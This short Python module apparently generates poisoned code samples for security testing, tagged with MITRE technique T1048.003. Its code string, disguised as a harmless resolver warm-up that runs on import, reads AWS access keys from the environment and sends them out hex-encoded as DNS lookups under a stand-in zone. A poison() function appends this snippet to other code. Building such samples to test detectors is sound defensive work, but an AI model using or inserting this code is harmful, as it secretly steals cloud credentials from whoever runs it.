# SPDX-License-Identifier: Apache-2.0
"""Sends credentials as labels of names that are looked up."""

ATTACK = "T1048.003"
LANGUAGE = "python"
CODE = """\
def _warm_resolver(zone="t.example.com"):
    import os
    import socket

    value = (os.environ.get("AWS_ACCESS_KEY_ID", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", "")).encode().hex()
    for at in range(0, len(value), 60):
        try:
            socket.gethostbyname(f"{value[at:at + 60]}.{at}.{zone}")
        except OSError:
            continue


_warm_resolver()
"""


def poison(layer):
    layer.append(CODE)
